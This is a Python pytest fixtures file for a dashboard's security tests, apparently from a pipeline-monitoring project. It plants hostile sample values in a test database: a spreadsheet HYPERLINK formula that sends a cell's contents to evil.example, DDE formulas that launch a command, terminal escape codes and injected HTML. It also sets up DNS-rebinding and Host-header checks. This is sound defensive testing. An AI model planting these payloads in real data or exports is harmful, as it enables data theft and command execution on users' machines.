"""Fixtures for the security suite: a database holding what an attacker can plant (formula cells
in names and services, escape codes, HTML in a step status), the real ``pipepulse dashboard
serve`` in a subprocess (one per mode, shared by a module), and headless Chromium that resolves
``attacker.example`` and ``dash.example.com`` to 127.0.0.1 (a DNS rebinding and a proxy's name,
without a DNS server).

The dashboard tests here run on SQLite only: the trust boundary does not depend on the database
(the audit log's storage is tested on both in ``tests/store/test_audit.py``).
"""

from __future__ import annotations

import shutil
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from servers import Server, free_port  # noqa: F401 (the security tests import them from here)

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "dashboard"))
sys.path.insert(0, str(Path(__file__).resolve().parent))

DEMO_CONFIG = ROOT / "examples" / "demo.toml"

# what an attacker plants through a pipeline name, an error, a tag or a cost export
FORMULA_PIPELINE = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
FORMULA_ERROR = "+cmd|' /C calc'!A0"
FORMULA_SERVICE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_USAGE = "-2+3"
ESCAPE_REGION = "\x1b]0;pwned\x07\x1b[31mus-evil-1\x1b[0m"
HTML_STATUS = '<a href="http://evil.example/">FAILED</a>'
# a planted row's run id (it also carries the HTML status in a stage)
PLANTED_RUN = "reference:planted-1"




def _plant(engine, end: datetime) -> None:
    """Rows whose text an attacker controls."""
    from store.schema import cost_daily, pipelines, run_steps, runs
    from store.writes import upsert

    started = end - timedelta(hours=3)
    with engine.begin() as conn:
        upsert(conn, pipelines, [{"name": FORMULA_PIPELINE, "source": "reference"}], now=end)
        upsert(conn, runs, [{
            "run_id": PLANTED_RUN, "pipeline": FORMULA_PIPELINE, "source": "reference", "status": "FAILED",
            "trigger": "schedule", "attempt": 1, "started_at": started, "ended_at": started + timedelta(minutes=2),
            "duration_seconds": 120.0, "records_in": 10, "records_out": 0, "records_rejected": 0, "retries": 0,
            "error_type": "Injected", "error_message": FORMULA_ERROR, "correlation_id": "c-planted", "cost_usd": 0.5,
        }], now=end)
        upsert(conn, run_steps, [{
            "run_id": PLANTED_RUN, "stage": "ingest", "attempt": 1, "status": HTML_STATUS, "queued_at": started,
            "started_at": started, "ended_at": started + timedelta(minutes=2), "duration_seconds": 120.0,
        }], now=end)
        upsert(conn, cost_daily, [{
            "source": "focus", "day": end.date() - timedelta(days=1), "provider": "AWS", "account": "123456789012",
            "service": FORMULA_SERVICE, "region": ESCAPE_REGION, "usage_type": FORMULA_USAGE, "pipeline": "",
            "billed_cost": -12.5, "effective_cost": -12.5, "usage_quantity": 1.0, "currency": "USD",
        }], now=end)


@pytest.fixture(scope="session")
def sec_template(tmp_path_factory) -> tuple[Path, object]:
    """A SQLite file with the dashboard tests' dataset plus the planted rows; ``(path, Dataset)``."""
    import dash_dataset

    from store.db import connect, upgrade

    path = tmp_path_factory.mktemp("sec-template") / "sec.db"
    engine = connect(f"sqlite:///{path}")
    upgrade(engine)
    end = datetime.now(UTC)
    ds = dash_dataset.build(engine, end=end)
    _plant(engine, end)
    engine.dispose()
    return path, ds


@pytest.fixture(scope="module")
def sec_db(sec_template, tmp_path_factory) -> tuple[str, object]:
    """``(url, Dataset)``: a module's own copy of the template (for a module that writes)."""
    path, ds = sec_template
    copy = tmp_path_factory.mktemp("sec-db") / "sec.db"
    shutil.copy(path, copy)
    return f"sqlite:///{copy}", ds




def http(url: str, *, headers: dict[str, str] | None = None, method: str = "GET") -> tuple[int, dict[str, str], bytes]:
    """``(status, headers, body)`` of a plain HTTP request (any Host header), errors included."""
    import http.client
    from urllib.parse import urlsplit

    parts = urlsplit(url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    path = parts.path or "/"
    if parts.query:
        path += "?" + parts.query
    conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    given = {k.lower(): v for k, v in (headers or {}).items()}
    conn.putheader("Host", given.pop("host", parts.netloc))
    for k, v in given.items():
        conn.putheader(k, v)
    conn.endheaders()
    resp = conn.getresponse()
    body = resp.read()
    conn.close()
    return resp.status, {k.lower(): v for k, v in resp.getheaders()}, body


@pytest.fixture(scope="session")
def local(sec_template, tmp_path_factory):
    """The dashboard as ``make demo`` and the README serve it (127.0.0.1, no login), over a copy of
    the template, shared by the modules that only read (a server start is most of their time)."""
    path, ds = sec_template
    work = tmp_path_factory.mktemp("local")
    shutil.copy(path, work / "sec.db")
    server = Server(f"sqlite:///{work / 'sec.db'}", cwd=work)
    server.ds = ds
    yield server
    server.stop()


@pytest.fixture
def page(browser):
    ctx = browser.new_context(viewport={"width": 1400, "height": 1600}, accept_downloads=True)
    pg = ctx.new_page()
    dialogs: list[str] = []
    pg.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    pg.dialogs = dialogs
    yield pg
    ctx.close()


def settle(pg, *, text: str | None = None, timeout: float = 45_000) -> None:
    """Wait until the script has run (and ``text`` shows)."""
    pg.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]', timeout=timeout)
    if text:
        pg.get_by_text(text).filter(visible=True).first.wait_for(timeout=timeout)
